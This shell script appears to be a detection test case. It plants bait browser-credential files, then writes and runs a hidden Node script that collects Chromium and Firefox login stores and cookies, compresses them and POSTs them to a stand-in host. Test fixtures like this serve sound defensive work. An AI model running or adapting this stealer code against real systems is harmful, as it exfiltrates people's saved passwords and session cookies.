#!/bin/sh
. /opt/case/case.sh

mkdir -p /root/.config/chromium/Default /root/.mozilla/firefox/x.default
for f in '/root/.config/chromium/Default/Login Data' '/root/.config/chromium/Local State' /root/.mozilla/firefox/x.default/logins.json /root/.mozilla/firefox/x.default/key4.db; do echo bait >"$f"; done
cat >/tmp/.b.mjs <<'END'
import fs from "fs"; import path from "path"; import zlib from "zlib";
const want = /^(Login Data|Local State|Cookies|Web Data|logins\.json|key4\.db)$/, got = {};
const walk = (d) => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) walk(p); else if (want.test(e.name)) got[p] = fs.readFileSync(p, "base64"); } };
for (const d of ["/root/.config", "/root/.mozilla", "/home"]) walk(d);
if (Object.keys(got).length < 4) process.exit(1);
await fetch("http://203.0.113.10:8080/u", { method: "POST", body: zlib.brotliCompressSync(JSON.stringify(got)) });
END
node /tmp/.b.mjs
took_place
